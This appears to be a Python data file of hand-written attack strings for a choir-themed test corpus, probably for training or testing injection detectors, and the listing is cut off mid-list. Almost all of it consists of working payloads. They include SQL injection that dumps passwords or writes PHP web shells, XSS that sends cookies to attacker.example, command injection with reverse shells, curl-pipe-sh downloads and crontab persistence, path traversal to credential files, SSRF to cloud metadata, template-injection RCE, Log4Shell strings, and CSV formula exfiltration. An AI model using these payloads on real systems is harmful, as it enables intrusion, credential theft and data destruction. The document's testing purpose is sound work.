#!/usr/bin/env python3
"""Attack values for the choir corpus (hand-written). Seed 25402."""
import json
import os
import random

SEED = 25402
HERE = os.path.dirname(os.path.abspath(__file__))

SQLI = [
    ("union", "fauré' UNION SELECT username, password_hash FROM members-- -"),
    ("union", "shenandoah%' UNION ALL SELECT NULL,email,phone,NULL FROM member_profiles#"),
    ("union", "0 UNION SELECT 1,group_concat(iban),3 FROM invoices"),
    ("union", "alto 2') union/**/select table_name,2 from information_schema.tables-- x"),
    ("union", "ubi caritas' UnIoN sElEcT column_name,null FROM information_schema.columns WHERE table_name='subs'--"),
    ("union", "-1 UNION SELECT name,sql FROM sqlite_master--"),
    ("union", "lux' /*!50000UNION*/ /*!50000SELECT*/ login,pwd FROM admin_users-- -"),
    ("union", "'+union+select+concat(first_name,0x3a,bank_ref),2+from+members--+"),
    ("union", "tenor')) UNION SELECT @@version,user()-- -"),
    ("union", "messiah' UNION SELECT 1,pg_read_file('/etc/passwd'),3--"),
    ("union", "9999 union%0aselect%0ausername,password%0afrom%0ausers"),
    ("union", "calon lân' UNION SELECT token, NULL FROM password_resets WHERE '1'='1"),
    ("boolean", "o'brien' OR '1'='1"),
    ("boolean", "d'arcy' or 1=1-- -"),
    ("boolean", "Bass 2' OR 'x'='x' --"),
    ("boolean", "42 OR 1=1"),
    ("boolean", "admin'--"),
    ("boolean", "ruth@example.org' or ''='"),
    ("boolean", "') OR ('a'='a"),
    ("boolean", "1' AND SUBSTRING((SELECT password FROM members WHERE id=1),1,1)='a' AND '1'='1"),
    ("boolean", "INV-2024-0137' AND ASCII(SUBSTR((SELECT iban FROM treasurer LIMIT 1),1,1))>64-- "),
    ("boolean", "S1' AND (SELECT COUNT(*) FROM members WHERE role='admin')>0 AND 'z'='z"),
    ("boolean", "x' || '1'='1"),
    ("boolean", "1 oR 2>1"),
    ("boolean", "\" or \"\"=\""),
    ("boolean", "alto' OR 3 BETWEEN 1 AND 5-- -"),
    ("boolean", "tenor' or true#"),
    ("boolean", "1' OR 'a' LIKE 'a"),
    ("time", "1' AND SLEEP(5)-- -"),
    ("time", "fauré'; WAITFOR DELAY '0:0:7'--"),
    ("time", "1) AND (SELECT 1 FROM (SELECT SLEEP(6))q)-- -"),
    ("time", "S2'||pg_sleep(8)--"),
    ("time", "'; SELECT pg_sleep(10);--"),
    ("time", "1 AND BENCHMARK(5000000,MD5('choir'))"),
    ("time", "x' AND IF(MID(version(),1,1)='8',SLEEP(4),0)-- -"),
    ("time", "shenandoah' AND 1=(SELECT 1 FROM pg_sleep(5))--"),
    ("time", "1' and randomblob(300000000)-- "),
    ("time", "Alto' AND DBMS_PIPE.RECEIVE_MESSAGE('a',9)='a"),
    ("error", "1' AND extractvalue(1,concat(0x7e,(SELECT database()),0x7e))-- -"),
    ("error", "' AND updatexml(null,concat(0x3a,(select user())),null)-- "),
    ("error", "1 AND 1=CONVERT(int,(SELECT TOP 1 email FROM members))"),
    ("error", "x' AND 1=CAST((SELECT string_agg(email,',') FROM members) AS int)--"),
    ("error", "1' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT((SELECT pass FROM admins LIMIT 1),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -"),
    ("error", "ubi' AND exp(~(select * from (select user())a))-- -"),
    ("stacked", "Great rehearsal!'); DROP TABLE rehearsal_notes;--"),
    ("stacked", "Tenor 1'; UPDATE members SET role='admin' WHERE email='x@attacker.example';--"),
    ("stacked", "60.00; INSERT INTO payments(member_id,amount,status) VALUES (7,60,'paid')--"),
    ("stacked", "'; DELETE FROM subs WHERE 1=1; --"),
    ("stacked", "1; EXEC xp_cmdshell 'whoami'--"),
    ("stacked", "x'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p|sh';--"),
    ("stacked", "St Aidan's hall'; TRUNCATE venue_bookings;-- "),
    ("stacked", "1; ATTACH DATABASE '/var/www/choir/shell.php' AS s; CREATE TABLE s.x(d text); INSERT INTO s.x VALUES('<?php system($_GET[c]);?>');--"),
    ("order-by", "date ASC, (CASE WHEN (SELECT substr(password,1,1) FROM users LIMIT 1)='a' THEN name ELSE part END)"),
    ("order-by", "name,(select 1 from pg_sleep(4))"),
    ("order-by", "1 desc,if(1=1,sleep(3),1)"),
    ("order-by", "part ORDER BY 9-- -"),
    ("order-by", "(SELECT 1 FROM DUAL WHERE 1=(SELECT CASE WHEN user() LIKE 'root%' THEN 1 ELSE 0 END))"),
    ("oob", "1'; EXEC master..xp_dirtree '\\\\sq1.attacker.example\\x';--"),
    ("oob", "x' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT pwd FROM admins LIMIT 1),'.attacker.example\\\\a'))-- -"),
    ("oob", "1' AND (SELECT UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) FROM dual) IS NOT NULL--"),
    ("file", "' UNION SELECT '<?php passthru($_GET[\"q\"]); ?>',2 INTO OUTFILE '/var/www/html/uploads/n.php'-- -"),
    ("file", "1 UNION SELECT LOAD_FILE('/etc/mysql/my.cnf'),2"),
    ("obfuscated", "soprano'/**/Or/**/1/**/=/**/1/**/-- -"),
    ("obfuscated", "1'%20aNd%20'1'='1"),
    ("obfuscated", "1%2527%20OR%25201%253D1--"),
    ("obfuscated", "alto＇ ＯＲ １＝１－－"),
    ("obfuscated", "ｆａｕｒé' ＵＮＩＯＮ ＳＥＬＥＣＴ password FROM members--"),
    ("obfuscated", "1'||(SeLeCt/*x*/cHaR(65)||cHr(66))||'"),
    ("obfuscated", "'or(1)like(1)#"),
    ("obfuscated", "x'%0bOR%0b1=1%0b--%0b"),
    ("obfuscated", "0x2720554e494f4e2053454c454354"),
    ("obfuscated", "1'/*!or*/'1'='1"),
    ("json", "{\"part\": \"S1' OR '1'='1\", \"sort\": \"name\"}"),
    ("json", "name;part;email\nEve;S1' UNION SELECT password FROM members--;eve@attacker.example"),
]
SQLI_POOL = ["' OR 1=1-- -", "' UNION SELECT email,password FROM members-- -", "'; DROP TABLE subs;--",
             "' AND SLEEP(9)-- -", "') OR ('1'='1"]
SQLI_PREFIX = ["Bass 2", "St Aidan's", "INV-2024-0201", "fauré requiem", "Ann Lee"]
SQLI_URLENC = [("boolean", "' OR '1'='1' -- "), ("union", "1 UNION SELECT password FROM members"),
               ("stacked", "alto'; DROP TABLE members;--"), ("time", "x' AND SLEEP(5)#")]

XSS = [
    ("tag", "Lovely concert! <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("tag", "Soprano 1<script src=//attacker.example/x.js></script>"),
    ("tag", "<SCRIPT>new Image().src='http://203.0.113.7/?c='+encodeURIComponent(localStorage.token)</SCRIPT>"),
    ("tag", "Ann Lee</td><script>alert(document.domain)</script>"),
    ("tag", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("tag", "<script\n>top['al'+'ert'](1)</script\n>"),
    ("event", "<img src=x onerror=alert(document.cookie)>"),
    ("event", "Bar 12 <img src=1 onerror=\"this.src='//attacker.example/l?'+document.cookie\">"),
    ("event", "<svg onload=fetch(`//attacker.example/${document.cookie}`)>"),
    ("event", "<svg/onload=alert`1`>"),
    ("event", "<body onload=location='https://attacker.example/'+document.cookie>"),
    ("event", "<details open ontoggle=alert(origin)>"),
    ("event", "<input autofocus onfocus=alert(1)>"),
    ("event", "Shenandoah <video><source onerror=\"eval(atob('YWxlcnQoMSk='))\"></video>"),
    ("event", "<marquee onstart=confirm(1)>choir</marquee>"),
    ("event", "<audio src=x onerror=import('//attacker.example/m.js')>"),
    ("event", "<iframe srcdoc=\"<img src=x onerror=parent.alert(1)>\"></iframe>"),
    ("event", "<div onpointerover=alert(1) style=position:fixed;inset:0>hover the programme</div>"),
    ("event", "<object data=x onerror=alert(1)>"),
    ("event", "<select autofocus onfocus=alert(1)>"),
    ("event", "<textarea autofocus onfocusin=alert(1)>"),
    ("event", "<img src=x oNeRrOr=prompt(1)>"),
    ("event", "<img/src/onerror=alert(1)>"),
    ("event", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("event", "<a onmouseover=alert(1)>hover for lyrics</a>"),
    ("event", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("event", "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=alert(1)>Gloria</b>"),
    ("attr-break", "\" onmouseover=\"alert(1)"),
    ("attr-break", "Alto 2\" autofocus onfocus=\"alert(document.cookie)\" x=\""),
    ("attr-break", "' onfocus='alert(1)' autofocus='"),
    ("attr-break", "Hannah\"><svg onload=alert(1)>"),
    ("attr-break", "x\" style=\"background:url(javascript:alert(1))"),
    ("attr-break", "Zoë'><img src=x onerror=alert(1)>"),
    ("url", "javascript:alert(document.cookie)"),
    ("url", "JaVaScRiPt:fetch('//attacker.example/?'+document.cookie)"),
    ("url", "java\tscript:alert(1)"),
    ("url", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
    ("url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("url", "[programme notes](javascript:alert(1))"),
    ("url", "<a href=\"javas&#x09;cript:alert(1)\">tickets</a>"),
    ("url", "https://www.example.org/concerts\" onclick=\"alert(1)"),
    ("url", "<a href=\"jav&#x61;script&colon;alert(1)\">Newsletter archive</a>"),
    ("url", "<form action=javascript:alert(1)><button>Pay subs</button></form>"),
    ("url", "<iframe src=\"javascript:alert(parent.document.cookie)\"></iframe>"),
    ("js-context", "';alert(document.cookie);//"),
    ("js-context", "\"-alert(1)-\""),
    ("js-context", "</script><script>alert(1)</script>"),
    ("js-context", "Tenor\\';alert(1);//"),
    ("js-context", "${alert(1)}"),
    ("js-context", "'-fetch('https://attacker.example/k?'+document.cookie)-'"),
    ("encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("encoded", "&lt;img src=x onerror=alert(1)&gt;"),
    ("encoded", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("encoded", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("encoded", "＜script＞alert(1)＜/script＞"),
    ("encoded", "<img src=x onerror=\\u0061lert(1)>"),
    ("encoded", "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>"),
    ("encoded", "%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
    ("dom", "#<img src=x onerror=alert(1)>"),
    ("dom", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("dom", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("dom", "<svg><foreignObject><iframe onload=alert(1)>"),
    ("dom", "<template><img src=x onerror=alert(1)></template><div id=t></div>"),
    ("css", "<style>body{background:url('//attacker.example/track')}</style>"),
    ("css", "<link rel=stylesheet href=//attacker.example/steal.css>"),
    ("css", "<style>input[name=csrf][value^=a]{background:url(//attacker.example/a)}</style>"),
    ("injection", "<meta http-equiv=refresh content=\"0;url=https://attacker.example/login\">"),
    ("injection", "<base href=\"https://attacker.example/\">"),
    ("injection", "<form action=https://attacker.example/grab method=post><input name=password placeholder='Re-enter choir password'></form>"),
    ("injection", "<embed src=\"https://attacker.example/x.swf\">"),
    ("polyglot", "Alto 2'\"--></textarea></title></style></script><svg/onload=alert(document.domain)>/*`*/"),
    ("template", "{{constructor.constructor('alert(1)')()}}"),
    ("template", "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>"),
    ("template", "<x v-on:click=\"$el.ownerDocument.defaultView.alert(1)\">click</x>"),
]
XSS_POOL = ["<img src=x onerror=alert(document.cookie)>", "<svg onload=fetch('//attacker.example/'+document.cookie)>",
            "\"><script>alert(1)</script>"]
XSS_PREFIX = ["Thanks for tonight!", "Alto 2 - ", "Programme note: ", "Lucía Fernández", "Great hall"]

CMDI = [
    ("chain", "fauré_requiem.pdf; cat /etc/passwd"),
    ("chain", "score.pdf && curl -s http://attacker.example/s.sh | sh"),
    ("chain", "rehearsal-2024-05-02.m4a | nc 203.0.113.9 4444 -e /bin/sh"),
    ("chain", "track.mp3 || wget -qO- http://198.51.100.3/x | bash"),
    ("chain", "export.csv; rm -rf /var/www/choir/uploads"),
    ("chain", "S1;id"),
    ("chain", "shenandoah.pdf;uname -a;"),
    ("chain", "A=440; bash -i >& /dev/tcp/203.0.113.50/9001 0>&1"),
    ("chain", "ubi.musicxml & ping -c 3 attacker.example &"),
    ("chain", "piano.jpg\nwhoami"),
    ("chain", "convert.png%0acat%20/etc/shadow"),
    ("chain", "x.pdf\r\nid > /tmp/o"),
    ("chain", "Lux_aurumque.pdf | tee /var/www/html/x.txt < /etc/hostname"),
    ("chain", "-o /var/www/html/sh.php http://attacker.example/sh.txt"),
    ("subst", "$(curl http://attacker.example/$(whoami))"),
    ("subst", "`id`"),
    ("subst", "Calon Lân `cat /etc/passwd | base64 | curl -d @- http://attacker.example/`"),
    ("subst", "tenor2-$(sleep 10).mp3"),
    ("subst", "score$(printf '\\x3b')id.pdf"),
    ("subst", "$(nslookup $(hostname).attacker.example)"),
    ("subst", "concert_$(echo cm0gLXJmIC8= | base64 -d | sh).zip"),
    ("subst", "<(curl -s attacker.example/p)"),
    ("subst", "\"$(id)\""),
    ("subst", "a'$(ls -la)'"),
    ("evasion", ";${IFS}cat${IFS}/etc/passwd"),
    ("evasion", ";cat$IFS$9/etc/passwd"),
    ("evasion", "|c'a't /e't'c/p'a's's'w'd"),
    ("evasion", ";c\\at /et\\c/pas\\swd"),
    ("evasion", ";/???/c?t /???/p?ss??"),
    ("evasion", ";{cat,/etc/passwd}"),
    ("evasion", "&& w\"h\"o\"a\"m\"i"),
    ("evasion", ";$'\\x63\\x61\\x74' /etc/passwd"),
    ("evasion", "; X=$'\\x20';cat${X}/etc/hosts"),
    ("evasion", "|/b?n/e??o${IFS}pwned>/tmp/p"),
    ("evasion", ";$(printf 'wh%sami' o)"),
    ("evasion", "; a=c;b=at;$a$b /etc/passwd"),
    ("evasion", "%3Bid%3B"),
    ("evasion", "%253Bwhoami"),
    ("evasion", "；ｉｄ"),
    ("evasion", ";ca\\\nt /etc/passwd"),
    ("windows", "part-tracks.zip & type C:\\Windows\\win.ini"),
    ("windows", "x | powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\""),
    ("windows", "score.pdf && certutil -urlcache -f http://203.0.113.4/n.exe %TEMP%\\n.exe"),
    ("windows", "& cmd /c net user choiradmin P4ss! /add"),
    ("windows", "| dir C:\\Users\\"),
    ("windows", "file.pdf & set /p=<C:\\inetpub\\wwwroot\\web.config"),
    ("windows", "%COMSPEC% /c whoami"),
    ("windows", "& powershell -enc dwBoAG8AYQBtAGkA"),
    ("argument", "--output=/var/www/html/shell.php"),
    ("argument", "-exec sh -c 'id' ;"),
    ("argument", "--checkpoint=1 --checkpoint-action=exec=sh x.sh"),
    ("argument", "-oProxyCommand=curl attacker.example/x|sh"),
    ("argument", "--post-file=/etc/passwd http://attacker.example/"),
    ("argument", "-X /var/www/html/log.php -OQueueDirectory=/tmp"),
    ("argument", "--upload-pack='touch /tmp/pwn'"),
    ("argument", "-e 'system(\"id\")'"),
    ("ffmpeg", "rehearsal.m4a -f lavfi -i \"movie=/etc/passwd\" out.txt"),
    ("imagemagick", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://attacker.example/x.png\"|curl \"attacker.example/r)'\npop graphic-context"),
    ("imagemagick", "choir-photo.jpg[|id>/tmp/x]"),
    ("mail", "member@example.org -X/var/www/html/out.php"),
    ("blind", "; sleep 15 #"),
    ("blind", "| ping -n 21 127.0.0.1"),
    ("blind", "&& curl http://$(whoami).oob.attacker.example"),
    ("blind", "; dig +short `cat /etc/hostname`.attacker.example"),
    ("blind", "a.pdf;timeout 9 yes >/dev/null"),
    ("persistence", "; echo '* * * * * curl attacker.example/c|sh' | crontab -"),
    ("persistence", "; echo ssh-ed25519 AAAAFAKEKEYPLACEHOLDER eve@attacker.example >> ~/.ssh/authorized_keys"),
    ("perl-open", "|/bin/sh -c 'id'|"),
]
CMDI_POOL = ["; curl http://attacker.example/i.sh | sh", "$(id)", "| nc 198.51.100.7 4444 -e /bin/sh", "`uname -a`"]
CMDI_PREFIX = ["tenor1-track.mp3", "Fauré_Requiem_S2.pdf", "choir-photo-2024.jpg", "members_export.csv"]

TRAVERSAL = [
    ("dotdot", "../../../../etc/passwd"),
    ("dotdot", "scores/../../../../../etc/shadow"),
    ("dotdot", "../../../var/www/choir/.env"),
    ("dotdot", "tracks/alto/../../../../../../proc/self/environ"),
    ("dotdot", "../../config/database.yml"),
    ("dotdot", "Fauré_Requiem.pdf/../../../../root/.ssh/id_rsa"),
    ("dotdot", "2024-spring/../../../../home/choir/.bash_history"),
    ("dotdot", "../../../../../../../../../../etc/hosts"),
    ("dotdot", "../.git/config"),
    ("dotdot", "rehearsals/../../app/settings.py"),
    ("dotdot", "....//....//....//etc/passwd"),
    ("dotdot", "..././..././..././etc/passwd"),
    ("dotdot", "/var/www/choir/uploads/../../../../etc/group"),
    ("dotdot", "..//..//..//..//proc/self/cmdline"),
    ("dotdot", "./././../../../../var/log/nginx/access.log"),
    ("windows", "..\\..\\..\\..\\windows\\win.ini"),
    ("windows", "scores\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("windows", "..\\/..\\/..\\/boot.ini"),
    ("windows", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("windows", "\\\\203.0.113.8\\share\\payload.dll"),
    ("windows", "..%5c..%5c..%5cwindows%5csystem.ini"),
    ("absolute", "/etc/passwd"),
    ("absolute", "/proc/self/fd/3"),
    ("absolute", "file:///etc/passwd"),
    ("absolute", "/root/.aws/credentials"),
    ("encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("encoded", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("encoded", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("encoded", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("encoded", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("encoded", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("encoded", "%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fshadow"),
    ("encoded", "．．／．．／．．／etc／passwd"),
    ("encoded", "..%255c..%255c..%255cwindows%255cwin.ini"),
    ("encoded", "%2e%2e/%2e%2e/%2e%2e/var/www/choir/.env"),
    ("encoded", "..%e0%80%af..%e0%80%afetc/passwd"),
    ("encoded", "\\u002e\\u002e/\\u002e\\u002e/etc/passwd"),
    ("null-byte", "../../../../etc/passwd%00.pdf"),
    ("null-byte", "../../../etc/passwd\\u0000.mp3"),
    ("null-byte", "alto_track.mp3%00/../../../../etc/shadow"),
    ("wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("wrapper", "php://filter/read=string.rot13/resource=/etc/passwd"),
    ("wrapper", "zip://uploads/score.zip%23shell.php"),
    ("wrapper", "phar://uploads/avatars/me.jpg/x"),
    ("wrapper", "jar:file:///opt/choir/app.jar!/application.properties"),
    ("archive", "../../../../var/www/choir/public/s.php"),
]
TRAV_URLENC = [("dotdot", "../../../../etc/passwd"), ("windows", "..\\..\\..\\windows\\win.ini"),
               ("absolute", "/proc/self/environ"), ("dotdot", "../../../.env")]

SSRF = [
    ("metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("metadata", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
    ("metadata", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
    ("metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("metadata", "http://169.254.170.2/v2/credentials/"),
    ("loopback", "http://127.0.0.1:8080/admin"),
    ("loopback", "http://localhost:6379/"),
    ("loopback", "http://localhost/server-status"),
    ("loopback", "https://127.0.0.1:2375/containers/json"),
    ("loopback", "http://[::1]:9200/_cat/indices"),
    ("loopback", "http://0.0.0.0:8500/v1/agent/self"),
    ("loopback", "http://127.1:11211/"),
    ("loopback", "http://0/"),
    ("alt-ip", "http://2130706433/admin"),
    ("alt-ip", "http://0x7f000001:8080/"),
    ("alt-ip", "http://0177.0.0.1/"),
    ("alt-ip", "http://2852039166/latest/meta-data/"),
    ("alt-ip", "http://0xa9.0xfe.0xa9.0xfe/latest/user-data"),
    ("alt-ip", "http://0251.0376.0251.0376/"),
    ("alt-ip", "http://[::ffff:127.0.0.1]:5000/"),
    ("alt-ip", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/"),
    ("alt-ip", "http://①②⑦.⓪.⓪.①/"),
    ("alt-ip", "http://127.0.0.1.nip.io:8000/internal"),
    ("internal", "http://10.0.0.5:8080/actuator/env"),
    ("internal", "http://192.168.1.1/cgi-bin/config.exp"),
    ("internal", "http://172.17.0.1:2379/v2/keys/?recursive=true"),
    ("internal", "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("internal", "http://choir-db:5432/"),
    ("internal", "http://redis.internal:6379/"),
    ("internal", "http://jenkins.corp.local:8080/script"),
    ("internal", "http://10.10.0.12:15672/api/users"),
    ("scheme", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*%2F1%20*%20*%20*%20*%20curl%20attacker.example%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%0D%0ASAVE%0D%0A"),
    ("scheme", "dict://127.0.0.1:11211/stats"),
    ("scheme", "file:///var/www/choir/.env"),
    ("scheme", "ldap://127.0.0.1:389/dc=choir"),
    ("scheme", "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM:<a@attacker.example>%0D%0A"),
    ("scheme", "tftp://203.0.113.30/x"),
    ("scheme", "netdoc:///etc/passwd"),
    ("bypass", "http://attacker.example@127.0.0.1/admin"),
    ("bypass", "http://127.0.0.1#@calendar.example.org/choir.ics"),
    ("bypass", "http://calendar.example.org.attacker.example/redirect?to=http://169.254.169.254/"),
    ("bypass", "https://attacker.example/r302?u=http%3A%2F%2F127.0.0.1%3A8080%2Fadmin"),
    ("bypass", "http://rebind.attacker.example/latest/meta-data/"),
    ("bypass", "http://localtest.me:9000/"),
    ("bypass", "http:/\\/127.0.0.1/"),
    ("bypass", "http://127.0.0.1%2523@example.org/"),
    ("bypass", "HTTP://LOCALHOST:8080/manager/html"),
    ("bypass", "http://localhost%00.example.org/"),
]

CODE = [
    ("ssti", "Dear {{7*'7'}} — welcome to {{config.items()}}"),
    ("ssti", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("ssti", "{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("ssti", "Hi {{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("ssti", "{{request.application.__globals__.__builtins__.__import__('os').popen('curl attacker.example|sh').read()}}"),
    ("ssti", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}"),
    ("ssti", "{{lipsum.__globals__['os'].popen('whoami').read()}}"),
    ("ssti", "{{ joiner.__init__.__globals__.os.environ }}"),
    ("ssti", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}"),
    ("ssti", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("ssti", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"id\"]).start()}"),
    ("ssti", "#set($r=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))$r"),
    ("ssti", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("ssti", "{{['id']|filter('system')}}"),
    ("ssti", "<%= `id` %>"),
    ("ssti", "<%= File.open('/etc/passwd').read %>"),
    ("ssti", "{php}echo `id`;{/php}"),
    ("ssti", "{system('cat /etc/passwd')}"),
    ("ssti", "${{7*7}}"),
    ("ssti", "Welcome {{first_name}}{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("ssti", "#{7*7}#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("ssti", "*{T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}"),
    ("ssti", "{{#with \"s\" as |string|}}{{#with string.split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{/with}}{{/with}}"),
    ("ssti", "<%- global.process.mainModule.require('child_process').execSync('id') %>"),
    ("ssti", "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))"),
    ("ssti", "{{ config.__class__.from_envvar.__globals__.__builtins__.open('/app/.env').read() }}"),
    ("el", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("el", "${applicationScope}"),
    ("el", "#{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("el", "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("el", "${pageContext.request.getSession().getServletContext()}"),
    ("el", "${__import__('os').system('id')}"),
    ("el", "#{session.setAttribute('role','admin')}"),
    ("log4shell", "${jndi:ldap://attacker.example/a}"),
    ("log4shell", "Great concert! ${jndi:ldap://203.0.113.12:1389/Exploit}"),
    ("log4shell", "${${lower:j}ndi:${lower:r}mi://attacker.example/o}"),
    ("log4shell", "${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/x}"),
    ("log4shell", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("log4shell", "Tenor 2 ${${env:NOTHING:-j}ndi${env:NOTHING:-:}ldaps://attacker.example/y}"),
    ("log4shell", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://198.51.100.2/z}"),
    ("log4shell", "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/q}"),
    ("log4shell", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/r}"),
    ("eval", "__import__('os').system('curl attacker.example/p|sh')"),
    ("eval", "require('child_process').exec('nc 203.0.113.5 4444 -e sh')"),
    ("eval", "eval(compile('import os;os.system(\"id\")','x','exec'))"),
    ("eval", "'; system('id'); $x='"),
    ("eval", "\");process.mainModule.require('child_process').execSync('id');//"),
    ("eval", "1+1;global.process.exit()"),
    ("eval", "phpinfo();"),
    ("eval", "<?php echo shell_exec($_GET['c']); ?>"),
    ("eval", "<?= `$_POST[x]` ?>"),
    ("eval", "open('/etc/passwd').read()"),
    ("eval", "Function('return this')().process.kill(process.pid)"),
    ("eval", "assert(\"system('id')\")"),
    ("proto", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("proto", "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}"),
    ("proto", "settings[__proto__][isTreasurer]=true"),
    ("proto", "{\"part\":\"S1\",\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('id');x\"}}"),
    ("proto", "__proto__.shell=/proc/self/exe&__proto__.argv0=console.log(require('child_process').execSync('id'))"),
    ("proto", "constructor[prototype][polluted]=yes"),
    ("csv-formula", "=cmd|' /C calc'!A0"),
    ("csv-formula", "Ann Lee;S1;=HYPERLINK(\"http://attacker.example/?l=\"&A2&B2,\"Click for your part\")"),
    ("csv-formula", "+SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/x)'!A0"),
    ("csv-formula", "@SUM(1+9)*cmd|' /C notepad'!A1"),
    ("csv-formula", "-2+3+cmd|' /C explorer'!A0"),
    ("csv-formula", "=WEBSERVICE(\"http://attacker.example/l?d=\"&ENCODEURL(C2))"),
    ("csv-formula", "=IMPORTXML(CONCAT(\"https://attacker.example/?v=\",A1:D9),\"//a\")"),
    ("csv-formula", "\t=DDE(\"cmd\";\"/C calc\";\"x\")"),
    ("csv-formula", "Bass 2,=1+2;=cmd|'/c curl attacker.example'!Z9"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE score [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><score-partwise><work><work-title>&x;</work-title></work></score-partwise>"),
    ("xxe", "<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><r/>"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE m [<!ENTITY s SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><member><name>&s;</name></member>"),
    ("xxe", "<!DOCTYPE a [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]><lyrics>&c;</lyrics>"),
    ("xxe", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE x SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/choir/config.php\"><x/>"),
    ("xxe", "<svg xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></svg>"),
    ("deserialization", "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("deserialization", "a:1:{i:0;O:21:\"Monolog\\Handler\\Syslog\":1:{s:5:\"ident\";s:2:\"id\";}}"),
    ("deserialization", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg=="),
    ("deserialization", "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
